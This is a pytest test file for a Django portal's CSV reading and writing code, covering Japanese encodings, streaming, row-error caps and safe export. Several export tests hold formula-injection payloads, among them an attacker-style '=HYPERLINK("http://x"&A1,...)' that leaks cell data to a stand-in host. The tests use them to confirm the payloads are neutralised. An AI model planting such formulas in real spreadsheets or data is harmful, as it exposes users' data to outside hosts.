import codecs
import csv
import io
import itertools
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from areas.models import District
from portal import audit
from portal.csvio import (
    CHUNK_BYTES,
    ErrorCollector,
    ExportEncodingError,
    ImportRejected,
    RowError,
    csv_bytes,
    csv_stream,
    csv_streaming_response,
    read_csv,
)
from portal.models import Role

COLUMNS = ("番号", "氏名", "町丁目コード")
HEADER = "番号,氏名,町丁目コード\r\n"
DISTRICT_HEADER = "地域コード,地域名,町丁目コード,町丁目名\n"
NUL_REASON = "NUL文字（0x00）が含まれています。"


class Trickle(io.RawIOBase):
    """A binary file that hands out at most `size` bytes per read."""

    def __init__(self, data, size):
        self.data, self.size, self.position = data, size, 0

    def readable(self):
        return True

    def read(self, n=-1):
        n = self.size if n < 0 else min(n, self.size)
        chunk = self.data[self.position : self.position + n]
        self.position += len(chunk)
        return chunk


class EndlessRegister(io.RawIOBase):
    """A CSV file with no end, generated as it is read; reading past `limit` fails.

    Only a reader that streams can take rows from it.
    """

    def __init__(self, limit):
        self.limit, self.bytes_read, self.buffer = limit, 0, b""
        self.rows = (f"{n},髙橋{n},A{n:05d}\r\n".encode("cp932") for n in itertools.count(1))
        self.buffer = HEADER.encode("cp932")

    def readable(self):
        return True

    def read(self, n=-1):
        n = CHUNK_BYTES if n < 0 else n
        while len(self.buffer) < n:
            self.buffer += next(self.rows)
        chunk, self.buffer = self.buffer[:n], self.buffer[n:]
        self.bytes_read += len(chunk)
        if self.bytes_read > self.limit:
            raise AssertionError(f"read {self.bytes_read:,} bytes for a few rows")
        return chunk


def rows_of(data, **kwargs):
    reader = read_csv(data, columns=COLUMNS, **kwargs)
    return reader, [(row.line, row.values) for row in reader]


# --- Reading: streaming ------------------------------------------------------


def test_rows_are_read_lazily_from_a_file_without_end():
    source = EndlessRegister(limit=4 * CHUNK_BYTES)
    reader = read_csv(source, columns=COLUMNS)
    first = list(itertools.islice(reader, 2000))
    assert [r.line for r in first[:2]] == [2, 3]
    assert first[-1].values == {"番号": "2000", "氏名": "髙橋2000", "町丁目コード": "A02000"}
    assert reader.encoding == "cp932"
    assert source.bytes_read <= 3 * CHUNK_BYTES


@pytest.mark.parametrize("read_size", [1, 7, CHUNK_BYTES])
def test_chunk_boundaries_anywhere_give_the_same_rows(read_size):
    text = (
        HEADER
        + '1,"髙橋\r\n一郎",A1\r\n'  # a quoted field over two lines: row starts on line 2
        + "\r\n"  # blank line: skipped, still counted
        + "2,﨑山①㈱,A2\r"  # old Mac line end
        + "3,山田,A3\n"
        + "4,end,A4"  # no line end at all
    )
    for encoding in ("cp932", "utf-8", "utf-8-sig", "utf-16"):
        data = text.encode(encoding)
        reader, rows = rows_of(Trickle(data, read_size))
        assert rows == [
            (2, {"番号": "1", "氏名": "髙橋\r\n一郎", "町丁目コード": "A1"}),
            (5, {"番号": "2", "氏名": "﨑山①㈱", "町丁目コード": "A2"}),
            (6, {"番号": "3", "氏名": "山田", "町丁目コード": "A3"}),
            (7, {"番号": "4", "氏名": "end", "町丁目コード": "A4"}),
        ], encoding
        assert reader.errors == []


def test_bytes_are_still_accepted():
    reader, rows = rows_of(HEADER.encode() + "1,佐藤,A1\r\n".encode())
    assert rows == [(2, {"番号": "1", "氏名": "佐藤", "町丁目コード": "A1"})]


# --- Reading: encodings ----------------------------------------------------


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        ((HEADER + "1,髙﨑①㈱,A1\r\n").encode("cp932"), "cp932"),
        ((HEADER + "1,髙﨑①㈱,A1\r\n").encode("utf-8"), "utf-8"),
        ((HEADER + "1,髙﨑①㈱,A1\r\n").encode("utf-8-sig"), "utf-8"),
        ((HEADER + "1,髙﨑①㈱,A1\r\n").encode("utf-16"), "utf-16"),
        (codecs.BOM_UTF16_BE + (HEADER + "1,髙﨑①㈱,A1\r\n").encode("utf-16-be"), "utf-16"),
    ],
)
def test_city_system_encodings_are_found(data, encoding):
    reader, rows = rows_of(data)
    assert rows == [(2, {"番号": "1", "氏名": "髙﨑①㈱", "町丁目コード": "A1"})]
    assert reader.encoding == encoding


def test_cp932_vendor_gaiji_area_is_read_as_private_use():
    data = HEADER.encode("cp932") + b"1,\x96\xec\xf0\x40,A1\r\n"  # 野 + 外字 0xF040
    _reader, rows = rows_of(data)
    assert rows[0][1]["氏名"] == "野\ue000"


def test_the_encoding_is_decided_by_the_first_non_ascii_bytes_even_far_into_the_file():
    header = "no,name,code\r\n"
    ascii_rows = "".join(f"{n},Yamada,A{n}\r\n" for n in range(1, 8000))  # > 64 KiB of ASCII
    data = (header + ascii_rows + "8000,髙橋,A8000\r\n").encode("cp932")
    assert len(data) > 2 * CHUNK_BYTES
    reader = read_csv(data, columns=("no", "name", "code"))
    rows = list(reader)
    assert rows[-1].line == 8001 and rows[-1]["name"] == "髙橋"
    assert reader.encoding == "cp932"


def test_a_byte_utf8_cannot_read_late_in_the_file_is_a_file_error_at_its_line():
    good = "".join(f"{n},佐藤,A{n}\r\n" for n in range(1, 5000))  # about 100 KiB of UTF-8
    data = HEADER.encode() + good.encode() + "5000,髙橋,A5000\r\n".encode("cp932")
    data += "5001,鈴木,A5001\r\n".encode()
    reader = read_csv(data, columns=COLUMNS)
    rows = list(reader)
    assert len(rows) == 4999
    assert [str(e) for e in reader.errors] == [
        "line 5001: ファイル: UTF-8 として読めないバイト（0xEE）があります。"
        "ファイル全体を同じ文字コードで保存し直してください。"
    ]


@pytest.mark.parametrize(
    "data",
    [
        b"\x81\x20\xff\xfe not text",
        codecs.BOM_UTF8 + b"\xff\xfe,broken\r\n",
        b"\xff\xfe\x00\xd8broken" + bytes(range(128, 256)),
    ],
)
def test_a_file_no_encoding_reads_is_refused_at_once(data):
    with pytest.raises(ImportRejected) as caught:
        read_csv(data, columns=COLUMNS)
    assert str(caught.value).startswith("line 1: ファイル: 文字コードを判別できません")


def test_shift_jis_is_never_used():
    # 0x878A is ㈱ in cp932 only; shift_jis would refuse the whole file.
    data = HEADER.encode("cp932") + b"1,\x87\x8a,A1\r\n"
    _reader, rows = rows_of(data)
    assert rows[0][1]["氏名"] == "㈱"


# --- Reading: headers and rows ----------------------------------------------


def test_headers_match_after_nfkc_and_aliases():
    data = "番号 ,氏名,町丁目ＣＤ\r\n1,山田,A1\r\n".encode("cp932")
    reader = read_csv(data, columns=COLUMNS, aliases={"町丁目CD": "町丁目コード"})
    assert [row.values for row in reader] == [{"番号": "1", "氏名": "山田", "町丁目コード": "A1"}]


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", ["line 1: ファイル: ファイルが空です。"]),
        (codecs.BOM_UTF8, ["line 1: ファイル: ファイルが空です。"]),
        (
            "番号,氏名\r\n1,山田\r\n".encode(),
            ["line 1: 町丁目コード: 列が見つかりません。見出し行を確認してください。"],
        ),
        (
            "番号,氏名,町丁目コード,氏名\r\n".encode(),
            ["line 1: 氏名: 同じ名前の列が複数あります。"],
        ),
    ],
)
def test_header_problems_refuse_the_file_at_once(data, expected):
    with pytest.raises(ImportRejected) as caught:
        read_csv(data, columns=COLUMNS)
    assert caught.value.report_lines() == expected


def test_a_nul_byte_is_a_row_error_naming_its_column():
    data = (HEADER + "1,山\x00田,A1\r\n2,佐藤,A2\r\n").encode("cp932")
    reader, rows = rows_of(data)
    assert rows == [(3, {"番号": "2", "氏名": "佐藤", "町丁目コード": "A2"})]
    assert [str(e) for e in reader.errors] == [f"line 2: 氏名: {NUL_REASON}"]


def test_row_errors_are_capped_with_a_count_of_the_rest():
    data = (HEADER + "1,山田\r\n" * 1205 + "9,佐藤,A9\r\n").encode()
    reader, rows = rows_of(data)
    assert rows == [(1207, {"番号": "9", "氏名": "佐藤", "町丁目コード": "A9"})]
    assert len(reader.errors) == 1000
    assert reader.error_count == 1205
    assert reader.errors[0].line == 2 and reader.errors[-1].line == 1001

    rejected = ImportRejected(reader.collector)
    assert (len(rejected.errors), rejected.error_count, rejected.omitted) == (1000, 1205, 205)
    assert rejected.report_lines()[-1] == "… 他 205 件のエラー"
    assert len(rejected.report_lines()) == 1001


def test_the_collector_keeps_the_earliest_lines_whatever_the_order_they_come_in():
    errors = ErrorCollector(limit=3)
    for line in (9, 5, 7, 2, 8, 3):
        errors.add(RowError(line, "列", "x"))
    assert [e.line for e in errors.errors] == [2, 3, 5]
    assert (errors.count, errors.omitted) == (6, 3)
    assert ImportRejected(errors).summary == "… 他 3 件のエラー"


def test_a_plain_list_given_to_import_rejected_is_sorted_and_capped():
    rejected = ImportRejected([RowError(n, "列", "x") for n in range(1500, 0, -1)])
    assert rejected.errors[0].line == 1 and len(rejected.errors) == 1000
    assert rejected.error_count == 1500


# --- Reading through the district import page and command -------------------


@pytest.mark.django_db
def _import_page(client, upload, capture):
    with capture(execute=True):
        response = client.post("/areas/import/", {"file": upload})
    return client.get(response["Location"]).content.decode()


def test_district_page_reports_a_nul_byte_as_a_row_error(
    client_as, django_capture_on_commit_callbacks
):
    client = client_as(Role.ADMINISTRATOR)
    data = (DISTRICT_HEADER + "A01,北部,A0101,桜ヶ丘\x00一丁目\n").encode("cp932")
    upload = SimpleUploadedFile("districts.csv", data, content_type="text/csv")
    page = _import_page(client, upload, django_capture_on_commit_callbacks)
    assert (
        '<td class="num" data-label="行">2</td><td data-label="列">町丁目名</td>'
        f'<td data-label="内容">{NUL_REASON}</td>'
    ) in page
    assert District.objects.count() == 0


@pytest.mark.django_db
def test_district_command_reports_a_nul_byte_as_a_row_error(tmp_path, capsys):
    path = tmp_path / "nul.csv"
    path.write_bytes((DISTRICT_HEADER + "A01,北\x00部,A0101,桜ヶ丘\n").encode())
    with pytest.raises(SystemExit) as exited:
        call_command("import_districts", str(path))
    assert exited.value.code == 1
    assert capsys.readouterr().out.splitlines() == [f"line 2: 地域名: {NUL_REASON}"]


@pytest.mark.django_db
def test_district_page_lists_the_first_thousand_errors_and_counts_the_rest(
    client_as, django_capture_on_commit_callbacks
):
    client = client_as(Role.ADMINISTRATOR)
    data = (DISTRICT_HEADER + "A01,北部,A0101\n" * 1205).encode()
    upload = SimpleUploadedFile("districts.csv", data, content_type="text/csv")
    page = _import_page(client, upload, django_capture_on_commit_callbacks)
    assert "誤りは1205件です。" in page
    assert "最初の1000件を表示しています。" in page
    assert page.count('<td class="num" data-label="行">') == 1000
    assert 'data-label="行">1001</td>' in page and 'data-label="行">1002</td>' not in page


@pytest.mark.django_db
def test_district_command_prints_the_capped_list_and_the_summary(tmp_path, capsys):
    path = tmp_path / "bad.csv"
    path.write_bytes((DISTRICT_HEADER + "A01,北部,A0101\n" * 1205).encode())
    with pytest.raises(SystemExit):
        call_command("import_districts", str(path))
    out, err = capsys.readouterr()
    lines = out.splitlines()
    assert len(lines) == 1001
    assert lines[-1] == "… 他 205 件のエラー"
    assert "1205件の誤り" in err


# --- Writing -----------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+81 3", "-A", "@SUM(A1)", "\tx", "\rx"])
def test_text_cells_that_excel_would_run_get_a_leading_quote(value):
    text = csv_bytes(["列"], [[value]]).decode("utf-8-sig")
    assert next(itertools.islice(csv.reader(io.StringIO(text)), 1, None)) == ["'" + value]


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    data = csv_bytes(
        ["a", "b", "c", "d", "e"], [[-5, Decimal("-1.5"), -0.25, None, "髙橋 -5"]]
    ).decode("utf-8-sig")
    assert data.split("\r\n")[1] == "-5,-1.5,-0.25,,髙橋 -5"


def test_streamed_csv_is_the_same_file_and_comes_in_chunks():
    rows = [[n, f"住民{n}", "=danger" if n % 2 else "safe"] for n in range(20000)]
    chunks = list(csv_stream(["番号", "氏名", "備考"], iter(rows)))
    assert len(chunks) > 1
    assert b"".join(chunks) == csv_bytes(["番号", "氏名", "備考"], rows)
    assert chunks[0].startswith(codecs.BOM_UTF8)


def test_utf8_stream_starts_before_all_rows_are_read():
    endless = ([n, "住民"] for n in itertools.count())
    first = next(csv_stream(["番号", "氏名"], endless))
    assert first.startswith(codecs.BOM_UTF8 + "番号,氏名\r\n".encode())


def test_cp932_export_names_every_character_it_lacks():
    rows = [["髙橋"], ["𠮷田"]] + [["佐藤"]] * 50000 + [["🍣屋"]]
    with pytest.raises(ExportEncodingError) as caught:
        csv_bytes(["氏名"], rows, encoding="cp932")
    assert caught.value.characters == ["🍣", "𠮷"]

    stream = csv_stream(["氏名"], iter(rows), encoding="cp932")
    with pytest.raises(ExportEncodingError) as caught:
        next(stream)  # not one byte comes out first
    assert caught.value.characters == ["🍣", "𠮷"]

    with pytest.raises(ExportEncodingError):
        csv_streaming_response(iter(rows), header=["氏名"], filename="名簿.csv", encoding="cp932")


def test_streaming_response_in_cp932():
    rows = [[n, "髙橋①"] for n in range(30000)]
    response = csv_streaming_response(
        iter(rows), header=["番号", "氏名"], filename="名簿.csv", encoding="cp932"
    )
    assert response["Content-Type"] == "text/csv"
    assert "filename*=UTF-8''%E5%90%8D%E7%B0%BF.csv" in response["Content-Disposition"]
    data = b"".join(response.streaming_content)
    assert data == csv_bytes(["番号", "氏名"], rows, encoding="cp932")


@pytest.mark.django_db
def test_audit_log_export_never_holds_a_live_formula(client_as):
    client = client_as(Role.ADMINISTRATOR)
    # A target whose text an attacker chose (an organisation's name, a file name).
    audit.record(
        by=audit.Actor.for_user(client.user),
        action="surveys.register.viewed",
        target='=HYPERLINK("http://x"&A1,"click")',
    )

    for encoding in ("utf-8", "cp932"):
        response = client.get("/staff/audit-log/export/", {"encoding": encoding})
        text = response.content.decode("utf-8-sig" if encoding == "utf-8" else "cp932")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert '\'=HYPERLINK("http://x"&A1,"click")' in cells
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_a_line_over_the_maximum_is_refused_at_that_line():
    from portal.csvio import MAX_LINE_CHARS

    # One line of 32 MB, no line end: refused as soon as the maximum is passed.
    class Endless(io.RawIOBase):
        read_bytes = 0

        def readable(self):
            return True

        def readinto(self, buffer):
            self.read_bytes += len(buffer)
            if self.read_bytes > 32 * 1024 * 1024:
                return 0
            buffer[:] = b"a" * len(buffer)
            return len(buffer)

    source = Endless()
    with pytest.raises(ImportRejected) as rejected:
        read_csv(io.BufferedReader(source, CHUNK_BYTES), columns=COLUMNS)
    assert rejected.value.errors[0].line == 1
    assert "1行が長すぎます" in rejected.value.errors[0].reason
    assert source.read_bytes < MAX_LINE_CHARS + 4 * CHUNK_BYTES

    long_row = (
        HEADER + "1,山田,001\r\n" + "2," + "あ" * (MAX_LINE_CHARS + 1) + ",002\r\n3,x,003\r\n"
    )
    reader = read_csv(long_row.encode("utf-8"), columns=COLUMNS)
    assert [row.line for row in reader] == [2]
    assert reader.errors[0].line == 3 and "1行が長すぎます" in reader.errors[0].reason


def test_a_large_file_of_ordinary_lines_and_a_line_just_under_the_maximum_still_read():
    from portal.csvio import MAX_LINE_CHARS

    name = "い" * (MAX_LINE_CHARS - 20)
    rows = "".join(f"{n},氏名{n},{n:03d}\r\n" for n in range(200_000))
    data = (HEADER + f"0,{name},000\r\n" + rows).encode("cp932")
    assert len(data) > 4 * 1024 * 1024
    reader = read_csv(io.BytesIO(data), columns=COLUMNS)
    read = list(reader)
    assert len(read) == 200_001 and reader.errors == []
    assert read[0]["氏名"] == name and read[-1]["町丁目コード"] == "199999"


def test_a_lone_cr_line_end_split_across_chunks_still_reads():
    body = "1,a," + "x" * (CHUNK_BYTES - 8) + "\r2,b,c\r"
    reader = read_csv((HEADER.replace("\r\n", "\r") + body).encode(), columns=COLUMNS)
    assert [row.line for row in reader] == [2, 3]
